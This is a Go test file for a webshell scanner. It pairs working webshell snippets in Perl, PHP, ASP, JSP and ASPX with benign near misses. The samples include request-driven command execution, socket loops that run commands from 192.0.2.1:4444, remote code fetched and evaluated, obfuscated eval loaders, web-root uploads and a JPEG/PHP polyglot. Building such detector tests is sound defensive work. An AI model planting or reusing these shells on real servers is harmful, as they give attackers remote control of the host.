package webshell

import "testing"

// Cases for the CGI, socket and dispatch idioms: each class of behaviour has one case that
// fires and a near miss from ordinary code (an application, an admin's script). Written for
// these tests after the techniques, none copied from a collection.
var idiomCases = []struct {
	name, file, text string
	verdict          string
	rule             string // must fire ("" for none in particular)
	not              string // must not fire ("" for none)
}{
	// --- Perl CGI
	{"perl sub with a prototype", "a.cgi", "#!/usr/bin/perl\nuse CGI qw(:standard);\nsub run($) { my $c = shift; return `$c`; }\nprint header, run(param('c'));\n", VerdictWebshell, "flow.exec", ""},
	{"perl &call", "a.cgi", "#!/usr/bin/perl\nuse CGI qw(:standard);\nsub run { my ($c) = @_; return `$c`; }\nprint header, &run(param('c'));\n", VerdictWebshell, "flow.exec", ""},
	{"perl own form parser", "a.cgi", "#!/usr/bin/perl\nread(STDIN, $buf, $ENV{'CONTENT_LENGTH'});\nforeach (split(/&/, $buf)) { ($k, $v) = split(/=/); $v =~ tr/+/ /; $v =~ s/%(..)/pack('C', hex($1))/eg; $FORM{$k} = $v; }\nprint \"Content-type: text/plain\\n\\n\";\nprint `$FORM{'cmd'}`;\n", VerdictWebshell, "flow.exec", ""},
	{"perl parser sub fills a global", "a.cgi", "#!/usr/bin/perl\nsub parse { my $q = $ENV{'QUERY_STRING'}; foreach my $p (split(/&/, $q)) { my ($n, $v) = split(/=/, $p); $F{$n} = $v; } }\n&parse();\nprint \"Content-type: text/plain\\n\\n\";\nopen(P, \"$F{'c'} |\"); print <P>;\n", VerdictWebshell, "flow.exec", ""},
	{"perl parser returns a hash", "a.cgi", "#!/usr/bin/perl\nsub parse ($) { my %f; foreach my $p (split(/&/, shift)) { my ($n, $v) = split(/=/, $p, 2); $f{$n} = $v; } return %f; }\nmy %F = parse($ENV{'QUERY_STRING'});\nprint \"Content-type: text/plain\\n\\n\";\nsystem($F{'c'});\n", VerdictWebshell, "flow.exec", ""},
	{"perl settings hash from a file", "a.cgi", "#!/usr/bin/perl\nopen(C, '<', '/etc/app.conf');\nwhile (my $l = <C>) { my ($k, $v) = split(/=/, $l, 2); $conf{$k} = $v; }\nsystem($conf{'backup'});\n", VerdictClean, "", "flow.exec"},
	{"perl body line", "a.cgi", "#!/usr/bin/perl\n$line = <STDIN>;\n($k, $cmd) = split(/=/, $line);\nprint \"Content-type: text/plain\\n\\n\";\nsystem($cmd);\n", VerdictWebshell, "flow.exec", ""},
	{"perl list exec of a shell", "a.cgi", "#!/usr/bin/perl\nuse CGI qw(:standard);\nprint header;\nsystem('/bin/sh', '-c', param('c'));\n", VerdictWebshell, "flow.exec", ""},
	{"perl list exec of a program", "thumb.cgi", "#!/usr/bin/perl\nuse CGI qw(:standard);\nprint header('image/png');\nsystem('/usr/bin/convert', param('src'), '-resize', '64x64', 'png:-');\n", VerdictClean, "", "flow.exec"},
	{"perl exec block of a program", "search.cgi", "#!/usr/bin/perl\nuse CGI qw(:standard);\nmy @words = param('q');\nexec { '/usr/bin/swish-e' } 'swish-e', '-w', @words;\n", VerdictClean, "", "flow.exec"},
	{"perl loop topics apart", "report.cgi", "#!/usr/bin/perl\nuse CGI qw(:standard);\nprint header;\nforeach (param('names')) { print escapeHTML($_), \"\\n\"; }\nforeach ('/usr/bin/uptime', '/usr/bin/df -h') { system($_); }\n", VerdictClean, "", "flow.exec"},
	{"perl commands from a socket", "x.pl", "#!/usr/bin/perl\nuse IO::Socket;\n$s = IO::Socket::INET->new(PeerAddr => '192.0.2.1:4444');\nwhile (<$s>) { print $s `$_`; }\n", VerdictWebshell, "net.exec", ""},
	{"perl reads a web page from a socket", "check.pl", "#!/usr/bin/perl\nuse IO::Socket;\n$s = IO::Socket::INET->new(PeerAddr => 'localhost:80');\nprint $s \"GET / HTTP/1.0\\r\\n\\r\\n\";\nwhile (<$s>) { print if /^HTTP/; }\nsystem('logger', 'checked');\n", VerdictClean, "", "net.exec"},
	// --- PHP
	{"php commands from a socket", "a.php", "<?php $s = stream_socket_client('tcp://192.0.2.1:4444'); while ($c = fgets($s)) { fwrite($s, shell_exec($c)); }", VerdictWebshell, "net.exec", ""},
	{"php smtp client", "mail.php", "<?php $s = fsockopen('localhost', 25); $banner = fgets($s, 512); fwrite($s, \"QUIT\\r\\n\"); echo htmlspecialchars($banner); $up = shell_exec('uptime');", VerdictClean, "", "net.exec"},
	{"php dispatch to a handler's method", "backend.php", "<?php $op = $_REQUEST['op']; $method = strtolower($_REQUEST['method']); $h = new Handler($_REQUEST); if (method_exists($h, $method)) { $h->$method(); } else { $h->index(); }", VerdictClean, "", "flow.callback"},
	{"php class named by a setting", "tabs.php", "<?php foreach ($tabs as $tab) { $o = new $tab['CLASS']($config, $dn); } $cur = $_GET['tab'];", VerdictClean, "", "flow.callback"},
	{"php sql console", "q.php", "<?php $db = new mysqli('localhost', 'u', 'p'); $r = $db->query($_POST['sql']); while ($row = $r->fetch_row()) print_r($row);", VerdictSuspicious, "flow.sql", ""},
	{"php dns query of a header", "login.php", "<?php $resolver = new Net_DNS2_Resolver(); $host = $_SERVER['HTTP_X_FORWARDED_FOR']; $res = $resolver->query($host, 'PTR');", VerdictClean, "", "flow.sql"},
	{"php decompressed data saved", "pdf.php", "<?php $data = file_get_contents($url); $tmp = tempnam(sys_get_temp_dir(), 'pdf'); file_put_contents($tmp, gzuncompress($data));", VerdictClean, "", "write.decoded"},
	{"php upload kept in the session", "import.php", "<?php if (isset($_FILES['f'])) { $x = $_FILES['f']['tmp_name']; $_SESSION['pkg'] = file_get_contents($x); } else { $x = sys_get_temp_dir() . '/pkg' . rand(); file_put_contents($x, $_SESSION['pkg']); }", VerdictClean, "", "flow.write"},
	{"php word inside a longer word", "font.php", "<?php $d = '/CIDSystemInfo << /Registry (Adobe) >>'; $w = file_put_contents($out, $d);", VerdictClean, "", "marker.os-recon"},
	{"php handle opened on a page", "a.php", "<?php $f = fopen('x.php', 'w'); fwrite($f, $_POST['c']); fclose($f);", VerdictSuspicious, "flow.upload", ""},
	{"php handle opened on a log", "fb.php", "<?php $f = fopen('/var/log/app/feedback.txt', 'a'); fwrite($f, $_POST['msg'] . \"\\n\"); fclose($f);", VerdictClean, "", "flow.upload"},
	{"php upload under its own name", "a.php", "<?php $f = $_FILES['file']; copy($f['tmp_name'], $f['name']); echo 'ok';", VerdictSuspicious, "flow.upload", ""},
	{"php upload under a digest", "up.php", "<?php $f = $_FILES['file']; copy($f['tmp_name'], '/srv/uploads/' . md5_file($f['tmp_name']));", VerdictClean, "", "flow.upload"},
	{"php extract of a copy", "a.php", "<?php $r = $_REQUEST; extract($r); $a($b);", VerdictWebshell, "flow.callback", ""},
	{"php extract of a row", "list.php", "<?php $row = $db->fetch($id); extract($row); $title = htmlspecialchars($title); $fmt($title);", VerdictClean, "", "flow.callback"},
	{"php array named by an expression", "a.php", `<?php ${"_GET"}['a'](${"_GET"}['b']);`, VerdictWebshell, "flow.callback", ""},
	{"php request decoded and run", "a.php", `<?php $k = "k3y"; function x($t, $k) { $o = ""; for ($i = 0; $i < strlen($t); $i++) { $o .= $t[$i] ^ $k[$i % strlen($k)]; } return $o; } if (preg_match("/ab(.+)cd/", file_get_contents("php://input"), $m)) { eval(gzuncompress(x(base64_decode($m[1]), $k))); }`, VerdictWebshell, "flow.code", ""},
	{"php request decoded and shown", "msg.php", `<?php $m = base64_decode($_GET['m']); echo htmlspecialchars($m);`, VerdictClean, "", ""},
	{"php decoded then cleared", "a.php", `<?php $_X = '` + b64("system($_GET['c']);") + `'; $_X = base64_decode($_X); $_R = my_fix($_X); eval($_R); $_R = 0;`, VerdictWebshell, "code.decoded", ""},
	{"php filter callback", "a.php", `<?php filter_var($_REQUEST['c'], FILTER_CALLBACK, array('options' => 'assert'));`, VerdictWebshell, "flow.callback", ""},
	{"php filter callback trim", "form.php", `<?php $n = filter_var($_POST['name'], FILTER_CALLBACK, array('options' => 'trim')); echo htmlspecialchars($n);`, VerdictClean, "", "flow.callback"},
	{"php escapeshellcmd command", "a.php", `<?php echo shell_exec(escapeshellcmd($_GET['c']));`, VerdictWebshell, "flow.exec", ""},
	{"php escapeshellarg argument", "thumb.php", `<?php exec('convert ' . escapeshellarg($_GET['f']) . ' -resize 64x64 /tmp/t.png');`, VerdictClean, "", "flow.exec"},
	{"php com shell", "a.php", `<?php $p = new COM('WScript.Shell'); $e = $p->Exec('cmd /c ' . $_GET['c']); echo $e->StdOut->ReadAll();`, VerdictWebshell, "flow.exec", ""},
	{"php job run", "jobs.php", `<?php $job = new Job((int) $_GET['id']); $job->run($_GET['args']);`, VerdictClean, "", "flow.exec"},
	{"php constant from the request", "a.php", `<?php define('X', $_GET['x']); eval(X);`, VerdictWebshell, "flow.code", ""},
	{"php constant of a folder", "index.php", `<?php define('ROOT', __DIR__); include ROOT . '/lib/init.php'; echo ROOT;`, VerdictClean, "", ""},
	{"php remote code", "a.php", `<?php $code = file_get_contents('http://203.0.113.5/p.txt'); eval($code);`, VerdictWebshell, "net.exec", ""},
	{"php remote feed", "rss.php", `<?php $feed = file_get_contents('https://example.org/rss'); echo htmlspecialchars($feed);`, VerdictClean, "", "net.exec"},
	{"php include a data stream", "a.php", `<?php include 'data:text/plain;base64,' . $_GET['d'];`, VerdictWebshell, "flow.include", ""},
	{"php include a language file", "i18n.php", `<?php $lang = basename($_GET['lang']); include 'lang/' . $lang . '.php';`, VerdictClean, "", "flow.include"},
	{"php without letters", "a.php", `<?php $_=[];$_=@"$_";$_=$_['!'=='@'];$___=$_;$__=$_;$__++;$__++;$__++;$__++;$___.=$__;$___.=$__;$____='_';$____.=$_;$_=$$____;$___($_[_]);`, VerdictSuspicious, "obf.no-letters", ""},
	{"php translations", "view.php", `<?php foreach ($items as $_) { echo __('Item'), ' ', esc_html($_); } _e('Done'); $x = __('Save');`, VerdictClean, "", "obf.no-letters"},
	{"perl remote code", "a.pl", "#!/usr/bin/perl\nuse LWP::Simple;\n$c = get('http://203.0.113.5/p.pl');\neval $c;\n", VerdictWebshell, "net.exec", ""},
	{"perl remote page", "check.pl", "#!/usr/bin/perl\nuse LWP::Simple;\n$c = get('https://example.org/status');\nprint \"ok\\n\" if $c =~ /up/;\n", VerdictClean, "", "net.exec"},
	{"asp function returns by name", "a.asp", "<%\nFunction D(s)\nD = StrReverse(s)\nEnd Function\nExecute D(\")\"\"x\"\"(tseuqer lave\")\n%>", VerdictWebshell, "code.decoded", ""},
	{"aspx jscript decoded request", "a.aspx", `<%@ Page Language="Jscript" %><% var c = System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Item["z"])); eval(c, "unsafe"); %>`, VerdictWebshell, "flow.code", ""},
	{"aspx text decoded and shown", "b.aspx", `<%@ Page Language="C#" %><% var t = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request["m"])); Response.Write(Server.HtmlEncode(t)); %>`, VerdictClean, "", ""},
	// --- Java
	{"jsp el reflection", "a.jsp", `<%@ page contentType="text/html" %>${"".getClass().forName("java.lang.Runtime").getMethod("exec", "".getClass()).invoke("".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null), param.cmd)}`, VerdictWebshell, "flow.exec", ""},
	{"jsp el display", "hello.jsp", `<%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %><p>Hello <c:out value="${param.name}"/>, ${fn:length(param.q)} ${header['User-Agent']}</p>`, VerdictClean, "", ""},
	{"jsp xmldecoder of the body", "a.jsp", `<% java.beans.XMLDecoder d = new java.beans.XMLDecoder(request.getInputStream()); d.readObject(); %>`, VerdictWebshell, "flow.code", ""},
	{"jsp xmldecoder of settings", "cfg.jsp", `<% java.beans.XMLDecoder d = new java.beans.XMLDecoder(new java.io.FileInputStream("/etc/app/settings.xml")); Object s = d.readObject(); %>`, VerdictClean, "", "flow.code"},
	{"jsp objects from the body", "a.jsp", `<% java.io.ObjectInputStream o = new java.io.ObjectInputStream(request.getInputStream()); o.readObject(); %>`, VerdictSuspicious, "flow.deserialize", ""},
	{"jsp objects from a file", "s.jsp", `<% java.io.ObjectInputStream o = new java.io.ObjectInputStream(new java.io.FileInputStream(application.getRealPath("/WEB-INF/cache.ser"))); Object c = o.readObject(); %>`, VerdictClean, "", "flow.deserialize"},
	{"jsp groovy", "a.jsp", `<% new groovy.lang.GroovyShell().evaluate(request.getParameter("c")); %>`, VerdictWebshell, "flow.code", ""},
	{"jsp xpath", "find.jsp", `<% javax.xml.xpath.XPath xp = javax.xml.xpath.XPathFactory.newInstance().newXPath(); String r = xp.evaluate(request.getParameter("q"), doc); %>`, VerdictClean, "", "flow.code"},
	{"jsp method handle", "a.jsp", `<%@ page import="java.lang.invoke.*" %><% MethodHandle h = MethodHandles.lookup().findVirtual(Runtime.class, "exec", MethodType.methodType(Process.class, String.class)); h.invoke(Runtime.getRuntime(), request.getParameter("c")); %>`, VerdictWebshell, "flow.exec", ""},
	{"jsp method handle of length", "len.jsp", `<%@ page import="java.lang.invoke.*" %><% MethodHandle h = MethodHandles.lookup().findVirtual(String.class, "length", MethodType.methodType(int.class)); int n = (int) h.invoke(request.getParameter("s")); %>`, VerdictClean, "", "exec.reflection"},
	{"jsp upload loop into the site", "a.jsp", `<%@ page import="org.apache.commons.fileupload.*,org.apache.commons.fileupload.servlet.*,java.util.*,java.io.*" %><% List items = new ServletFileUpload(new DiskFileItemFactory()).parseRequest(request); for (Object o : items) { FileItem item = (FileItem) o; item.write(new File(application.getRealPath("/"), item.getName())); } %>`, VerdictSuspicious, "flow.upload", ""},
	{"jsp upload loop into storage", "att.jsp", `<%@ page import="org.apache.commons.fileupload.*,org.apache.commons.fileupload.servlet.*,java.util.*,java.io.*" %><% List items = new ServletFileUpload(new DiskFileItemFactory()).parseRequest(request); for (Object o : items) { FileItem item = (FileItem) o; item.write(new File("/srv/attachments", UUID.randomUUID().toString())); } %>`, VerdictClean, "", "flow.upload"},
	{"jsp body read into a class", "a.jsp", `<%! class L extends ClassLoader { Class d(byte[] b) { return defineClass(b, 0, b.length); } } %><% java.io.InputStream in = request.getInputStream(); java.io.ByteArrayOutputStream bos = new java.io.ByteArrayOutputStream(); byte[] buf = new byte[4096]; int n; while ((n = in.read(buf)) > 0) bos.write(buf, 0, n); new L().d(bos.toByteArray()).newInstance(); %>`, VerdictWebshell, "flow.classload", ""},
	{"jsp names from a helper", "a.jsp", `<%! String x(String s) { return new StringBuilder(s).reverse().toString(); } %><% Class c = Class.forName(x("emitnuR.gnal.avaj")); Object r = c.getMethod(x("emitnuRteg")).invoke(null); c.getMethod(x("cexe"), String.class).invoke(r, request.getParameter("c")); %>`, VerdictWebshell, "flow.exec", ""},
	{"jsp driver from a helper", "db.jsp", `<%! String driver(String db) { return "com." + db + ".jdbc.Driver"; } %><% Class.forName(driver("mysql")); java.sql.Connection c = java.sql.DriverManager.getConnection("jdbc:mysql://localhost/app", "app", "secret"); %>`, VerdictClean, "", "exec.reflection"},
	{"jsp download into the site", "a.jsp", `<% java.io.InputStream in = new java.net.URL(request.getParameter("u")).openStream(); java.io.FileOutputStream fo = new java.io.FileOutputStream(application.getRealPath("/") + "x.jsp"); int b; while ((b = in.read()) != -1) fo.write(b); fo.close(); %>`, VerdictSuspicious, "flow.upload", ""},
	{"jsp download into a cache", "feed.jsp", `<% java.io.InputStream in = new java.net.URL("https://example.org/feed.json").openStream(); java.io.FileOutputStream fo = new java.io.FileOutputStream("/var/cache/app/feed.json"); int b; while ((b = in.read()) != -1) fo.write(b); fo.close(); %>`, VerdictClean, "", "flow.upload"},
	// --- ASP.NET form controls
	{"aspx control runs a command", "a.aspx", `<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { System.Diagnostics.Process p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + cmd.Text; p.Start(); }</script><form runat="server"><asp:TextBox id="cmd" runat="server"/><asp:Button runat="server" OnClick="Go" Text="Go"/></form>`, VerdictWebshell, "flow.exec", ""},
	{"aspx control shown", "hello.aspx", `<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { lbl.Text = Server.HtmlEncode(name.Text); }</script><form runat="server"><asp:TextBox id="name" runat="server"/><asp:Label id="lbl" runat="server"/></form>`, VerdictClean, "", ""},
	{"aspx upload into the site", "a.aspx", `<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { up.SaveAs(Server.MapPath("~/") + up.FileName); }</script><form runat="server"><asp:FileUpload id="up" runat="server"/></form>`, VerdictSuspicious, "flow.upload", ""},
	{"aspx upload into storage", "att.aspx", `<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { up.SaveAs(@"D:\storage\" + Guid.NewGuid().ToString("N")); }</script><form runat="server"><asp:FileUpload id="up" runat="server"/></form>`, VerdictClean, "", "flow.upload"},
	{"jsp input plus empty text", "a.jsp", `<% String c = request.getParameter("c") + ""; String[] a = {"/bin/sh", "-c", c}; Process p = Runtime.getRuntime().exec(a); %>`, VerdictWebshell, "flow.exec", ""},
}

func TestIdiomCases(t *testing.T) {
	for _, c := range idiomCases {
		t.Run(c.name, func(t *testing.T) {
			r := Scan(c.file, []byte(c.text))
			if r.Verdict != c.verdict {
				t.Errorf("verdict %s (score %d), want %s; reasons %v", r.Verdict, r.Score, c.verdict, r.Reasons)
			}
			if c.rule != "" && !hasRule(r, c.rule) {
				t.Errorf("rule %s did not fire; reasons %v", c.rule, r.Reasons)
			}
			if c.not != "" && hasRule(r, c.not) {
				t.Errorf("rule %s fired; reasons %v", c.not, r.Reasons)
			}
		})
	}
}

// TestImageBytes: compressed pixels that happen to hold "<?" and a space are no PHP; a PHP
// open tag with code in an image is.
func TestImageBytes(t *testing.T) {
	noise := "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<? \x8f\x01\xe3$\xff\x00x\x9c\x02\x91<?=\xf3\x10\x88\x00"
	if l := DetectLanguage("logo.png", []byte(noise)); l != LangUnknown {
		t.Errorf("pixels read as %s", l)
	}
	if r := Scan("logo.png", []byte(noise)); r.Verdict != VerdictClean {
		t.Errorf("pixels: %s %v", r.Verdict, r.Reasons)
	}
	poly := "\xff\xd8\xff\xe0\x00\x10JFIF\x00<?= system($_GET['c']); ?>\xff\xd9"
	if r := Scan("a.jpg", []byte(poly)); r.Verdict != VerdictWebshell {
		t.Errorf("polyglot: %s %v", r.Verdict, r.Reasons)
	}
}
